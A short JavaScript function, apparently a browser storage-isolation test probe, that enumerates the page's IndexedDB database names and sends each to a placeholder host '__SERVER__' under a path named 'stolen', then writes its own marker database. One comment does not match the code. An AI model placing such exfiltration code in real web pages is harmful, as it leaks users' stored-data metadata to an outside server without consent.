// Stores something for the next visit, and reads what others have stored.
// says: Keeps 10 in flight: a window of 10.
async function attempt() {
  const settled = (request) =>
    new Promise((end) => {
      request.onsuccess = () => end(request.result);
      request.onerror = request.onblocked = () => end(null);
      request.onupgradeneeded = () => request.result.createObjectStore("stolen");
      setTimeout(() => end(null), 200);
    });
  const databases = await indexedDB.databases().catch(() => []);
  for (const { name } of databases) fetch(`__SERVER__/stolen?${name}`).catch(() => {});
  const database = await settled(indexedDB.open("stolen", 1));
  const store = database.transaction("stolen", "readwrite").objectStore("stolen");
  await settled(store.put("__SERVER__", "stolen"));
}
